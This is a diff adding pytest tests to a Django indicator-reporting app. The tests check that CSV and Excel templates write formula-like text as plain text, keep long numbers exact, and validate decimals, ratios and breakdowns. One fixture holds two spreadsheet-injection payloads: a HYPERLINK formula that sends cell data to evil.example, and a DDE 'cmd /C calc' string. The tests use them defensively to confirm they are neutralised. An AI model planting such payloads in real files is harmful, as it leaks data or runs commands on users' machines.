@@ -547,3 +547,231 @@ def test_a_template_with_nothing_filled_in_is_refused(campaign, partner, indicat
     content = campaigns.template_csv(campaign, campaigns.due_for(partner, campaign), "fr")
     [error] = refused(partner, campaign, "2026-Q3.csv", content.encode())
     assert "no row gives a value" in error.reason
+
+
+# --- the template never runs as a formula --------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
+    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def booby_trapped(campaign, partner, indicators):
+    """A title and comments a spreadsheet would run, stored as texts (in French)."""
+    indicators["COUNT"].title_fr = FORMULAS["title"]
+    indicators["COUNT"].save()
+    indicators["AMT"].title_fr = "-1+2"
+    indicators["AMT"].save()
+    with translation.override("fr"):
+        upload(
+            partner,
+            campaign,
+            "q3.csv",
+            csv_bytes(
+                [
+                    ["indicator", "value", "comment"],
+                    ["COUNT", "12", FORMULAS["comment"]],
+                    ["AMT", "-5", "+33 81 00 00 00"],
+                    ["TXT", "=1+1", "\t=2+2"],
+                ]
+            ),
+        )
+    text = Observation.objects.get(indicator__code="TXT")
+    assert text.text_value == "=1+1"
+    text.comment_fr = "\t=2+2"  # as only the web form or the admin keep it
+    text.save()
+    return campaigns.due_for(partner, campaign)
+
+
+def test_the_workbook_template_writes_every_text_as_text(campaign, booby_trapped):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    content = campaigns.template_xlsx(campaign, booby_trapped, "fr")
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert not any(
+            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
+        )
+    sheet = load_workbook(io.BytesIO(content)).active
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    texts = [rows["COUNT"][1], rows["COUNT"][8], rows["TXT"][5], rows["TXT"][8]]
+    assert [cell.value for cell in texts] == [
+        FORMULAS["title"],
+        FORMULAS["comment"],
+        "=1+1",
+        "\t=2+2",
+    ]
+    assert [(cell.data_type, cell.quotePrefix) for cell in texts] == [("s", True)] * 4
+    assert (rows["AMT"][1].value, rows["AMT"][5].value) == ("-1+2", -5)  # a number stays one
+
+
+def test_the_csv_template_quotes_what_a_spreadsheet_would_run(campaign, booby_trapped):
+    text = campaigns.template_csv(campaign, booby_trapped, "fr")
+
+    rows = {row[0]: row for row in csv.reader(io.StringIO(text[1:]), delimiter=";")}
+    assert rows["COUNT"][1] == "'" + FORMULAS["title"]
+    assert rows["COUNT"][8] == "'" + FORMULAS["comment"]
+    assert (rows["AMT"][1], rows["AMT"][5], rows["AMT"][8]) == ("'-1+2", "-5", "'+33 81 00 00 00")
+    assert (rows["TXT"][5], rows["TXT"][8]) == ("'=1+1", "'\t=2+2")
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx"])
+def test_a_template_with_formula_like_texts_reads_back_unchanged(
+    format, campaign, partner, booby_trapped
+):
+    """Needs the reader to take off the quote before = + - @ of a text cell."""
+    before = list(
+        Observation.objects.order_by("pk").values_list("pk", "value", "text_value", "comment")
+    )
+    entries = LogEntry.objects.count()
+    if format == "csv":
+        content = campaigns.template_csv(campaign, booby_trapped, "fr").encode()
+    else:
+        content = campaigns.template_xlsx(campaign, booby_trapped, "fr")
+
+    with translation.override("fr"):
+        report = upload(partner, campaign, f"template.{format}", content)
+
+    assert report.counts == {"created": 0, "updated": 0, "unchanged": 3}, report.rows
+    after = Observation.objects.order_by("pk").values_list("pk", "value", "text_value", "comment")
+    assert list(after) == before
+    assert LogEntry.objects.count() == entries
+
+
+# --- numbers Excel would round, decimals the model would round -----------------------
+
+
+@pytest.mark.parametrize("language", ["fr", "en"])
+def test_a_number_of_more_than_15_digits_reads_back_exactly(language, campaign, indicators):
+    """Excel keeps 15 significant digits: such a number is written as text. (Read back
+    through the reader: SQLite, unlike PostgreSQL, stores decimals as floats itself.)"""
+    from openpyxl import load_workbook
+
+    from pilotage.core.spreadsheets import read_table
+
+    exact = D("1234567890123.4567")
+    observation = Observation.objects.create(indicator=indicators["AMT"], value=exact, **Q3)
+    items = [campaigns.DueItem(indicators["AMT"], observation)]
+
+    content = campaigns.template_xlsx(campaign, items, language)
+
+    cell = load_workbook(io.BytesIO(content)).active["F2"]
+    mark = "," if language == "fr" else "."
+    assert (cell.value, cell.data_type) == (f"1234567890123{mark}4567", "s")
+    with translation.override(language):
+        table = read_table("template.xlsx", content, campaigns.upload_columns())
+        [row] = table.records()
+        table.settle_decimal_mark([row], ["value"])
+        assert row.decimal("value") == exact
+    assert not table.errors
+
+
+def test_more_decimal_places_than_kept_are_refused_not_rounded(campaign, partner, indicators):
+    upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "1,2346"]]))
+    observation = Observation.objects.get()
+    before = (observation.value, observation.updated_at)
+
+    with pytest.raises(DataFileError) as caught:
+        upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "1,23456"]]))
+
+    [error] = caught.value.errors
+    assert (error.record, error.column, error.value) == ("row 2", "value", "1,23456")
+    assert error.reason == "1,23456 has more than 4 decimal places: values are kept to 4"
+    observation.refresh_from_db()
+    assert (observation.value, observation.updated_at) == before
+    # Trailing zeros are no places.
+    report = upload(
+        partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "1,234600"]])
+    )
+    assert report.counts == {"created": 0, "updated": 0, "unchanged": 1}
+
+
+# --- what a row does not give is kept ------------------------------------------------
+
+
+def test_a_row_keeps_what_its_file_does_not_give(campaign, partner, indicators):
+    observation = Observation.objects.create(
+        indicator=indicators["AMT"],
+        value=D(10),
+        comment="Source : comptes 2026",
+        evidence_url="https://example.org/preuve.pdf",
+        **Q3,
+    )
+
+    report = upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["AMT", "12"]]))
+
+    [row] = report.rows
+    assert (row.action, row.changes) == ("updated", {"value": ("10", "12")})
+    observation.refresh_from_db()
+    assert (observation.value, observation.comment, observation.evidence_url) == (
+        D(12),
+        "Source : comptes 2026",
+        "https://example.org/preuve.pdf",
+    )
+
+
+def test_a_new_value_clears_a_ratio_that_no_longer_gives_it(campaign, partner, indicators):
+    observation = Observation.objects.create(
+        indicator=indicators["PCT"], numerator=D(5), denominator=D(10), value=D(50), **Q3
+    )
+    same = upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["PCT", "50"]]))
+    assert same.counts == {"created": 0, "updated": 0, "unchanged": 1}
+
+    report = upload(partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["PCT", "60"]]))
+
+    [row] = report.rows
+    assert row.changes == {
+        "value": ("50", "60"),
+        "numerator": ("5", ""),
+        "denominator": ("10", ""),
+    }
+    observation.refresh_from_db()
+    assert (observation.value, observation.numerator, observation.denominator) == (
+        D(60),
+        None,
+        None,
+    )
+
+
+def test_a_value_its_numerator_and_denominator_contradict_is_refused(campaign, partner, indicators):
+    content = csv_bytes(
+        [["indicator", "value", "numerator", "denominator"], ["PCT", "60", "5", "10"]]
+    )
+    [error] = refused(partner, campaign, "q3.csv", content)
+    assert (error.column, error.value) == ("value", "60")
+    assert error.reason == (
+        "60 is not what the numerator and denominator give (5 / 10 = 50): correct one or the other"
+    )
+
+
+def test_a_new_total_without_its_breakdown_is_refused(campaign, partner, reported):
+    observation = Observation.objects.get(indicator__code="COUNT")
+    before = (observation.value, observation.updated_at)
+
+    for dry_run in (True, False):
+        with pytest.raises(DataFileError) as caught:
+            upload(
+                partner,
+                campaign,
+                "q3.csv",
+                csv_bytes([["indicator", "value"], ["COUNT", "1300"]]),
+                dry_run=dry_run,
+            )
+        [error] = caught.value.errors
+        assert (error.record, error.column, error.value) == ("row 2", "value", "1300")
+        assert error.reason.startswith("The stored breakdown adds up to 1234, not to 1300")
+
+    observation.refresh_from_db()
+    assert (observation.value, observation.updated_at) == before
+    assert sorted(observation.parts.values_list("value", flat=True)) == [D(234), D(1000)]
+    # The same total without its breakdown columns leaves the parts alone.
+    same = upload(
+        partner, campaign, "q3.csv", csv_bytes([["indicator", "value"], ["COUNT", "1234"]])
+    )
+    assert same.counts == {"created": 0, "updated": 0, "unchanged": 1}
+    assert sorted(observation.parts.values_list("value", flat=True)) == [D(234), D(1000)]
